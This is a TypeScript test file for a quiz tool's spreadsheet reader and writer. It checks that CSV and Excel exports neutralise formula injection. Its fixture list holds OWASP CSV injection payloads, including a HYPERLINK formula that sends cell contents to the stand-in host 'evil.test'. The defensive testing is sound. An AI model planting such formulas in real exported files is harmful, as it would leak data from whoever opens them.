import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { readCsv, readWorkbook, writeCsv, writeWorkbook, type SheetOut } from './sheets.js';

describe('readWorkbook', () => {
  it('gives back what the teacher typed, whatever Excel made of it (numbers, times, rich text, formulas)', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Questions');
    sheet.addRow(['Title', 'TYPE', 'answer_1', 'score', 'Option_A', 'prompt']);
    sheet.addRow([
      'Opening hours',
      'gap_fill',
      new Date(Date.UTC(1899, 11, 30, 9, 0)),
      2,
      { richText: [{ text: 'In a ' }, { text: 'village', font: { bold: true } }] },
      { formula: '"Where"&"?"', result: 'Where?' },
    ]);
    const read = await readWorkbook(Buffer.from(await book.xlsx.writeBuffer()));
    expect(read.rows).toEqual([
      {
        row: 2,
        cells: {
          title: 'Opening hours',
          type: 'gap_fill',
          answer_1: '09:00',
          score: '2',
          option_A: 'In a village',
          prompt: 'Where?',
        },
      },
    ]);
  });
});

describe('readCsv', () => {
  it('takes the separator from the header line and keeps quoted separators', () => {
    const read = readCsv('title;type;prompt\n"A; B";gap_fill;"x, y"\n');
    expect(read.rows[0]!.cells).toEqual({ title: 'A; B', type: 'gap_fill', prompt: 'x, y' });
  });
});

/** OWASP's CSV injection cases (issue 27 item 3): each text cell as a spreadsheet would take it. */
const FORMULAS = [
  '=HYPERLINK("http://evil.test/?"&A1,"open")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
];
const sheetOf = (rows: SheetOut['rows']): SheetOut => ({ name: 'S', header: ['name', 'score'], rows });

describe('writeCsv', () => {
  it('puts a quote before every text cell a spreadsheet would read as a formula', () => {
    const csv = writeCsv(sheetOf(FORMULAS.map((name) => ({ name, score: 1 }))));
    const [header, ...rows] = parse(csv.replace(/^\uFEFF/, '')) as string[][];
    expect(header).toEqual(['name', 'score']);
    expect(rows.map((r) => r[0])).toEqual(FORMULAS.map((f) => `'${f}`));
  });

  it('leaves numbers, negative ones included, and ordinary text as they are', () => {
    const csv = writeCsv(
      sheetOf([
        { name: 'Lớp A1', score: -5 },
        { name: 'a=b', score: 0.5 },
        { name: "'quoted", score: 12 },
      ]),
    );
    expect(csv).toBe("\uFEFFname,score\nLớp A1,-5\na=b,0.5\n'quoted,12\n");
  });

  it('imports back as it was written', () => {
    const csv = writeCsv(sheetOf(FORMULAS.map((name) => ({ name: name.trim(), score: -1 }))));
    const read = readCsv(csv);
    expect(read.rows.map((r) => r.cells.name)).toEqual(FORMULAS.map((f) => f.trim()));
    expect(read.rows.map((r) => r.cells.score)).toEqual(FORMULAS.map(() => '-1'));
  });
});

describe('writeWorkbook', () => {
  it('writes formula-looking text as text cells, never as formulas', async () => {
    const buffer = await writeWorkbook([sheetOf(FORMULAS.map((name) => ({ name, score: -5 })))]);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(buffer as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    for (let r = 2; r <= FORMULAS.length + 1; r++) {
      expect(sheet.getCell(r, 1).type).toBe(ExcelJS.ValueType.String);
      expect(sheet.getCell(r, 1).formula).toBeUndefined();
      // XML reads a carriage return back as a line feed; the text is otherwise as written.
      expect(sheet.getCell(r, 1).value).toBe(FORMULAS[r - 2]!.replace('\r', '\n'));
      expect(sheet.getCell(r, 2).value).toBe('-5');
    }
  });

  it('writes a typed sheet’s numbers as numbers and its days as dates, its text still never a formula', async () => {
    const typed: SheetOut = {
      name: 'Report',
      header: ['name', 'score', 'day'],
      rows: [{ name: '=1+1', score: -5, day: { day: '2026-03-05' } }],
      typed: true,
    };
    const book = new ExcelJS.Workbook();
    await book.xlsx.load((await writeWorkbook([typed])) as unknown as ArrayBuffer);
    const row = book.worksheets[0]!.getRow(2);
    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
    expect(row.getCell(1).value).toBe('=1+1');
    expect(row.getCell(2).value).toBe(-5);
    expect(row.getCell(3).value).toEqual(new Date('2026-03-05T00:00:00Z'));
    expect(row.getCell(3).numFmt).toBe('yyyy-mm-dd');
    // The same sheet as CSV: the day as its ISO date, the formula quoted.
    expect(parse(writeCsv(typed).replace(/^\uFEFF/, ''))).toEqual([
      ['name', 'score', 'day'],
      ["'=1+1", '-5', '2026-03-05'],
    ]);
  });
});
